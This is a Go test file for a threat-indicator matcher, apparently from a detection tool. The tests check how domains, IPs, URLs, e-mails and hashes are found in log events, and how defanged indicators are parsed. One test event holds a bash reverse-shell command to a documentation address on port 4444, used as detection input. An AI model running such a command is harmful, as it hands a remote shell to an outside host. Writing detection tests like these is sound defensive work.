package indicator_test

import (
	"fmt"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/wardline/wardline/format/jsonl"
	"github.com/wardline/wardline/internal/detect/indicator"
	"github.com/wardline/wardline/internal/event"
)

// Digests of invented files.
const (
	md5Hex    = "0123456789abcdef0123456789abcdef"
	sha1Hex   = "0123456789abcdef0123456789abcdef01234567"
	sha256Hex = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
)

// setOf lists values, each on a line of its own, all under one detail.
func setOf(t testing.TB, d indicator.Detail, listed ...string) *indicator.Set {
	t.Helper()
	b := indicator.NewBuilder(1 << 20)
	b.AddSource(indicator.Source{File: "list.txt", Title: "list", Author: "Example CERT", Level: "high"})
	var p indicator.Parser
	for i, text := range listed {
		v, err := p.Parse([]byte(text))
		if err != nil {
			t.Fatalf("%s: %v", text, err)
		}
		one := d
		one.Port = v.Port
		add(t, b, v, i+1, one)
	}
	return build(t, b)
}

func add(t testing.TB, b *indicator.Builder, v indicator.Value, line int, d indicator.Detail) int {
	t.Helper()
	ref, err := b.Detail(&d)
	if err != nil {
		t.Fatal(err)
	}
	n, err := b.Add(v, line, ref)
	if err != nil {
		t.Fatal(err)
	}
	return n
}

func build(t testing.TB, b *indicator.Builder) *indicator.Set {
	t.Helper()
	set, err := b.Build()
	if err != nil {
		t.Fatal(err)
	}
	return set
}

func eventFrom(t testing.TB, fields string) *event.Event {
	t.Helper()
	ev := &event.Event{Fields: []byte(fields)}
	if err := ev.Index.Scan(ev.Fields, jsonl.DefaultLimits()); err != nil {
		t.Fatalf("%s: %v", fields, err)
	}
	return ev
}

// shown is "value field" of each hit, in order.
func shown(hits []indicator.Hit) string {
	var list []string
	for _, h := range hits {
		list = append(list, h.Value+" "+h.Field)
	}
	slices.Sort(list)
	return strings.Join(list, ", ")
}

func TestMatch(t *testing.T) {
	listed := []string{
		"example.org", "deep.example.net", "update.zip", "xn--bcher-kva.example",
		"198.51.100.7", "203.0.113.0/28", "2001:db8::7", "2001:db8:1::/48", "120.0.0.0/12",
		"http://www.example.com/a/b?x=1", "files.example.com/drop", "https://example.com/prefix/*", "http://[2001:db8::9]:8080/x", "http://example.com/(odd)",
		"mallory@example.com", "o'neil+x@example.com",
		md5Hex, sha1Hex, sha256Hex,
	}
	set := setOf(t, indicator.Detail{}, listed...)
	if set.Len() != len(listed) {
		t.Fatalf("%d entries of %d", set.Len(), len(listed))
	}
	for _, tt := range []struct{ name, fields, want string }{
		{"a name", `{"query":"example.org"}`, "example.org query"},
		{"in capitals, with the root's point", `{"query":"WWW.Example.ORG."}`, "example.org query"},
		{"a name below it", `{"a":{"b":["x","a.b.example.org"]}}`, "example.org a.b"},
		{"a longer name", `{"query":"notexample.org"}`, ""},
		{"a name above it", `{"query":"example.net"}`, ""},
		{"a name beside it", `{"query":"shallow.example.net"}`, ""},
		{"a name that goes on", `{"query":"example.org.invalid"}`, ""},
		{"a name that goes on outside ASCII", `{"q":"üexample.org","r":"example.orgü"}`, ""},
		{"below a name outside ASCII", `{"q":"ü.example.org"}`, "example.org q"},
		{"Punycode", `{"query":"www.XN--BCHER-KVA.example"}`, "xn--bcher-kva.example query"},
		{"a service", `{"query":"_ldap._tcp.example.org"}`, "example.org query"},
		{"in a command", `{"CommandLine":"ping -n 1 evil.example.org; rem"}`, "example.org CommandLine"},
		{"behind an escaped line end", `{"m":"a\nexample.org\tb","n":"a\rdeep.example.net"}`, "deep.example.net n, example.org m"},
		{"escaped letters", `{"m":"ex\u0061mple.org"}`, "example.org m"},
		{"a UNC path", `{"p":"\\\\example.org\\share\\x.txt"}`, "example.org p"},
		{"a file of that name", `{"p":"C:\\tools\\update.zip","q":"/tmp/update.zip"}`, ""},
		{"a host of that name", `{"p":"update.zip"}`, "update.zip p"},
		{"the account before an @", `{"p":"update.zip@example.invalid"}`, ""},
		{"an e-mail's domain", `{"from":"<alice@mail.example.org>"}`, "example.org from"},
		{"a URL's host", `{"u":"https://user@example.org:8443/x"}`, "example.org u"},
		{"within a URL, escaped", `{"u":"https://example.invalid/?to=http%3A%2F%2Fwww.example.org%2F198.51.100.7%2F"}`, "198.51.100.7 u, example.org u"},
		{"a URL's path", `{"u":"https://example.invalid/example.org/"}`, ""},
		{"Sysmon's DNS answer", `{"QueryResults":"type:  5 a.example.org;::ffff:198.51.100.7;"}`, "198.51.100.7 QueryResults, example.org QueryResults"},

		{"an address", `{"id.resp_h":"198.51.100.7"}`, "198.51.100.7 id.resp_h"},
		{"with a port", `{"dst":"198.51.100.7:443"}`, "198.51.100.7 dst"},
		{"IPv6 clothes", `{"SourceIp":"::ffff:198.51.100.7"}`, "198.51.100.7 SourceIp"},
		{"a device of bash", `{"c":"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"}`, "198.51.100.7 c"},
		{"a longer number", `{"a":"198.51.100.70","b":"1198.51.100.7","c":"198.51.100.7.1","d":"198.51.100.07"}`, ""},
		{"a version", `{"FileVersion":"198.51.100.7"}`, ""},
		{"a program's version", `{"user_agent":"Mozilla/5.0 Chrome/120.0.0.0 Safari/537.36"}`, ""},
		{"in a network", `{"ip":"203.0.113.15"}`, "203.0.113.0/28 ip"},
		{"behind the network", `{"ip":"203.0.113.16"}`, ""},
		{"IPv6", `{"ip":"2001:DB8:0:0::7"}`, "2001:db8::7 ip"},
		{"IPv6 in brackets", `{"ip":"[2001:db8::7]:443"}`, "2001:db8::7 ip"},
		{"IPv6 of a card", `{"ip":"2001:db8::7%eth0"}`, "2001:db8::7 ip"},
		{"IPv6 behind an escape", `{"ip":"a\n2001:db8::7: connection"}`, "2001:db8::7 ip"},
		{"IPv6 in a network", `{"ip":"at 2001:db8:1:2::3."}`, "2001:db8:1::/48 ip"},
		{"no IPv6", `{"a":"12:34:56","b":"std::string","c":"2001:db8::7g","d":"x2001:db8::7"}`, ""},

		{"a URL", `{"u":"HTTP://WWW.example.com:80/a/b?x=1#top"}`, "http://www.example.com/a/b?x=1 u"},
		{"another case in the path", `{"u":"http://www.example.com/A/b?x=1"}`, ""},
		{"another query", `{"u":"http://www.example.com/a/b?x=12"}`, ""},
		{"a URL in text", `{"c":"curl -o x \"http://www.example.com/a/b?x=1\" (see http://example.com/(odd))."}`,
			"http://example.com/(odd) c, http://www.example.com/a/b?x=1 c"},
		{"escaped slashes", `{"u":"http:\/\/www.example.com\/a\/b?x=1"}`, "http://www.example.com/a/b?x=1 u"},
		{"a URL in a URL", `{"u":"https://example.invalid/go?to=http://www.example.com/a/b?x=1"}`, "http://www.example.com/a/b?x=1 u"},
		{"any scheme", `{"u":"ftp://files.example.com/drop"}`, "files.example.com/drop u"},
		{"what it begins with", `{"u":"https://example.com/prefix/x/y?z"}`, "https://example.com/prefix/* u"},
		{"beside what it begins with", `{"u":"https://example.com/prefixed","v":"https://example.com/?/prefix/"}`, ""},
		{"a long URL", `{"u":"https://example.com/prefix/` + strings.Repeat("x", 5000) + `"}`, "https://example.com/prefix/* u"},
		{"an IPv6 host", `{"u":"http://[2001:0db8::9]:8080/x"}`, "http://[2001:db8::9]:8080/x u"},
		{"Zeek's parts", `{"host":"www.example.com","uri":"/a/b?x=1"}`, "http://www.example.com/a/b?x=1 uri"},
		{"Suricata's parts", `{"http":{"hostname":"www.example.com","http_port":80,"url":"/a/b?x=1"}}`, "http://www.example.com/a/b?x=1 http.url"},
		{"the parts of IIS", `{"cs-host":"www.example.com","cs-uri-stem":"/a/b","cs-uri-query":"x=1"}`, "http://www.example.com/a/b?x=1 cs-uri-stem"},

		{"an e-mail address", `{"to":"Mallory <MALLORY@example.com>"}`, "mallory@example.com to"},
		{"quoted", `{"to":"'mallory@example.com'","x":"a\nO'Neil+X@example.com."}`, "mallory@example.com to, o'neil+x@example.com x"},
		{"a longer account", `{"to":"notmallory@example.com","cc":"mallory@example.com.invalid"}`, ""},

		{"Sysmon's Hashes", `{"Hashes":"SHA1=` + strings.ToUpper(sha1Hex) + `,MD5=` + md5Hex + `,SHA256=` + sha256Hex + `,IMPHASH=00000000000000000000000000000000"}`,
			md5Hex + " Hashes, " + sha1Hex + " Hashes, " + sha256Hex + " Hashes"},
		{"a digest", `{"file":{"hash":{"sha256":"` + sha256Hex + `"}}}`, sha256Hex + " file.hash.sha256"},
		{"a digest behind an escape", `{"m":"x\n` + md5Hex + `"}`, md5Hex + " m"},
		{"part of more digits", `{"m":"0` + md5Hex + `","n":"` + md5Hex + `0","o":"x` + md5Hex + `","p":"` + md5Hex + `_"}`, ""},
	} {
		if got := shown(set.Match(eventFrom(t, tt.fields), nil)); got != tt.want {
			t.Errorf("%s: got %q, want %q", tt.name, got, tt.want)
		}
	}
}

func TestHitSaysWhatItsListSays(t *testing.T) {
	d := indicator.Detail{ID: "x-1", Title: "Loader", Description: "seen in an exercise", References: []string{"https://example.com/report"}}
	hits := setOf(t, d, "192.0.2.1", "example.org").Match(eventFrom(t, `{"a":"example.org","b":"www.example.org"}`), nil)
	if len(hits) != 1 {
		t.Fatalf("%d hits, want 1", len(hits))
	}
	got := fmt.Sprintf("%+v", hits[0])
	for _, want := range []string{
		"Kind:domain", "Value:example.org", "ID:x-1", "Title:Loader", "Description:seen in an exercise", "Level:high", "Author:Example CERT",
		"https://example.com/report", "List:list", "File:list.txt", "Line:2", "Field:a",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("%s is not in %s", want, got)
		}
	}
}

func TestConditions(t *testing.T) {
	day := func(n int) time.Time { return time.Date(2026, 3, n, 0, 0, 0, 0, time.UTC) }
	for _, tt := range []struct {
		name   string
		detail indicator.Detail
		listed string
		fields string
		at     time.Time
		want   int
	}{
		{"within", indicator.Detail{From: day(2), Until: day(4)}, "example.org", `{"q":"example.org"}`, day(2), 1},
		{"too early", indicator.Detail{From: day(2), Until: day(4)}, "example.org", `{"q":"example.org"}`, day(1), 0},
		{"too late", indicator.Detail{From: day(2), Until: day(4)}, "example.org", `{"q":"example.org"}`, day(4), 0},
		{"at no known time", indicator.Detail{From: day(2), Until: day(4)}, "example.org", `{"q":"example.org"}`, time.Time{}, 1},
		{"a network too late", indicator.Detail{Until: day(4)}, "192.0.2.0/28", `{"q":"192.0.2.1"}`, day(5), 0},
		{"a port in its field", indicator.Detail{}, "192.0.2.1:4444", `{"ip":"192.0.2.1","port":4444}`, day(1), 1},
		{"a port as text", indicator.Detail{}, "192.0.2.1|4444", `{"ip":"192.0.2.1","port":"4444"}`, day(1), 1},
		{"a port behind the address", indicator.Detail{}, "[2001:db8::1]:4444", `{"to":"[2001:db8::1]:4444"}`, day(1), 1},
		{"another port", indicator.Detail{}, "example.org:4444", `{"to":"example.org:44440","port":443}`, day(1), 0},
		{"a file name", indicator.Detail{Name: "Drop.exe"}, md5Hex, `{"Image":"C:\\x\\drop.EXE","Hashes":"MD5=` + md5Hex + `"}`, day(1), 1},
		{"an address beside it", indicator.Detail{With: "192.0.2.1"}, "example.org", `{"q":"example.org","answers":["::ffff:192.0.2.1;"]}`, day(1), 1},
		{"another address beside it", indicator.Detail{With: "192.0.2.1"}, "example.org", `{"q":"example.org","answers":["192.0.2.11","1192.0.2.1"]}`, day(1), 0},
		{"another file name", indicator.Detail{Name: "drop.exe"}, md5Hex, `{"Image":"C:\\x\\raindrop.exe","Hashes":"MD5=` + md5Hex + `"}`, day(1), 0},
	} {
		ev := eventFrom(t, tt.fields)
		ev.Time = tt.at
		if got := len(setOf(t, tt.detail, tt.listed).Match(ev, nil)); got != tt.want {
			t.Errorf("%s: %d hits, want %d", tt.name, got, tt.want)
		}
	}
}

// Of several entries of one value the first that applies answers.
func TestEntriesOfOneValue(t *testing.T) {
	for _, listed := range []string{"example.org", "192.0.2.0/28"} {
		b := indicator.NewBuilder(10)
		b.AddSource(indicator.Source{File: "a"})
		var p indicator.Parser
		v, err := p.Parse([]byte(listed))
		if err != nil {
			t.Fatal(err)
		}
		year := func(n int) time.Time { return time.Date(n, 1, 1, 0, 0, 0, 0, time.UTC) }
		revoked := add(t, b, v, 1, indicator.Detail{Title: "revoked"})
		add(t, b, v, 2, indicator.Detail{Title: "old", Until: year(2020)})
		add(t, b, v, 3, indicator.Detail{Title: "always"})
		add(t, b, v, 4, indicator.Detail{Title: "never asked"})
		b.Retract(revoked)
		set := build(t, b)
		if set.Len() != 2 {
			t.Errorf("%s: %d entries, want 2", listed, set.Len())
		}
		for at, want := range map[int]string{2019: "old 2", 2021: "always 3"} {
			ev := eventFrom(t, `{"a":"example.org","b":"192.0.2.1"}`)
			ev.Time = year(at)
			hits := set.Match(ev, nil)
			if len(hits) != 1 || fmt.Sprint(hits[0].Title, " ", hits[0].Line) != want {
				t.Errorf("%s in %d: %+v, want %s", listed, at, hits, want)
			}
		}
	}
}

func TestParseRefuses(t *testing.T) {
	for text, want := range map[string]string{
		"":                         "no value",
		"com":                      "not a value",
		"0.0.0.0/0":                "too broad",
		"::/0":                     "too broad",
		"10.0.0.0/8":               "too broad",
		"192.168.0.0/16":           "too broad",
		"172.16.0.0/11":            "too broad",
		"127.0.0.1":                "too broad",
		"0.0.0.0":                  "too broad",
		"255.255.255.255":          "too broad",
		"224.0.0.251":              "too broad",
		"fe80::1":                  "too broad",
		"2001:db8::1%eth0":         "zone",
		"2001:db8::/12":            "too broad",
		"co.uk":                    "too broad",
		"*.com":                    "too broad",
		"192.0.2.1/33":             "not an IP",
		"192.0.2.256":              "not an IP",
		"192.0.2.1:0":              "not a port",
		"evil.exe":                 "a file name",
		"bücher.example":           "Punycode",
		"-.example..org":           "not a domain",
		"exa mple.org":             "not a domain",
		"http://":                  "not a URL",
		"http:///x":                "not a URL",
		"http://exa*mple.org/":     "wildcard",
		"http://example.org/?a=/*": "wildcard",
		"a@b@example.org":          "not an e-mail",
		"@example.org":             "not an e-mail",
		"0123456789abcdef":         "not a value",
		strings.Repeat("a.", 200):  "not a domain",
		"http://example.org/" + strings.Repeat("a", 3000): "longer than the limit",
	} {
		var p indicator.Parser
		v, err := p.Parse([]byte(text))
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%.40s: %v %v, want %s", text, v, err, want)
		}
	}
}

func TestParseNormalises(t *testing.T) {
	for text, want := range map[string]string{
		"hxxps://Example[.]ORG:443/A": "https://example.org/A",
		"hxxp[:]//example[.]org":      "http://example.org/",
		"h**p://example(dot)org/x#y":  "http://example.org/x",
		"198[.]51[.]100[.]7":          "198.51.100.7",
		`198\.51\.100\.7`:             "198.51.100.7",
		"alice[at]example[dot]org":    "alice@example.org",
		"*.Example.org.":              "example.org",
		"198.51.100.7/32":             "198.51.100.7",
		"198.51.100.7/24":             "198.51.100.0/24",
		"[2001:DB8::1]":               "2001:db8::1",
		"198.51.100.7/evil.sh":        "198.51.100.7/evil.sh",
		"198.51.100.7:8080/evil.sh":   "198.51.100.7:8080/evil.sh",
		"example.org/123":             "example.org/123",
		"198.51.100.7:8080":           "198.51.100.7:8080",
		"example.org:8080":            "example.org:8080",
		"'example.org'":               "example.org",
		"example.org/*":               "example.org/*",
		strings.ToUpper(sha256Hex):    sha256Hex,
		"http://a:b@Example.org:80?q": "http://example.org/?q",
	} {
		var p indicator.Parser
		v, err := p.Parse([]byte(text))
		if err != nil || v.String() != want {
			t.Errorf("%s: %v %v, want %s", text, v, err, want)
		}
	}
}

func TestMatchAllocatesNothingWithoutHits(t *testing.T) {
	set := setOf(t, indicator.Detail{}, "example.org", "192.0.2.0/28", "192.0.2.200", "http://example.com/x", "http://example.com/y/*", "a@example.com", md5Hex, sha1Hex)
	ev := eventFrom(t, `{"host":"example.com","uri":"\/z","m":"C:\\x.org\u002e b@example.com 192.0.2.77 ::1:2 http:\/\/example.com/q/r","h":"`+sha256Hex+`"}`)
	var hits []indicator.Hit
	if n := testing.AllocsPerRun(100, func() { hits = set.Match(ev, hits[:0]) }); n != 0 || len(hits) > 0 {
		t.Errorf("%v allocations, %d hits", n, len(hits))
	}
}

func TestManyMatchAtOnce(t *testing.T) {
	set := setOf(t, indicator.Detail{}, "example.org", "192.0.2.0/28")
	ev := eventFrom(t, `{"a":"www.example.org","b":"192.0.2.3 \u0041"}`)
	var group sync.WaitGroup
	for range 8 {
		group.Go(func() {
			for range 1000 {
				if got := shown(set.Match(ev, nil)); got != "192.0.2.0/28 b, example.org a" {
					t.Errorf("got %s", got)
					return
				}
			}
		})
	}
	group.Wait()
}

// One event cannot make a finding of its every word.
func TestHitsOfOneEventAreBounded(t *testing.T) {
	var listed []string
	for i := range 300 {
		listed = append(listed, fmt.Sprintf("n%d.example.org", i))
	}
	set := setOf(t, indicator.Detail{}, listed...)
	if n := len(set.Match(eventFrom(t, `{"m":"`+strings.Join(listed, " ")+`"}`), make([]indicator.Hit, 3))); n != 103 {
		t.Errorf("%d hits", n)
	}
}

func TestEmptySet(t *testing.T) {
	set := setOf(t, indicator.Detail{})
	if hits := set.Match(eventFrom(t, `{"a":"example.org 192.0.2.1"}`), nil); len(hits) > 0 || set.Len() != 0 {
		t.Errorf("%d hits, %d entries", len(hits), set.Len())
	}
}

func TestBuilderKeepsItsLimit(t *testing.T) {
	b := indicator.NewBuilder(1)
	b.AddSource(indicator.Source{})
	var p indicator.Parser
	v, err := p.Parse([]byte("example.org"))
	if err != nil {
		t.Fatal(err)
	}
	ref, err := b.Detail(&indicator.Detail{})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := b.Add(v, 1, ref); err != nil {
		t.Fatal(err)
	}
	if _, err := b.Add(v, 2, ref); err == nil {
		t.Error("a second entry passed a limit of 1")
	}
}
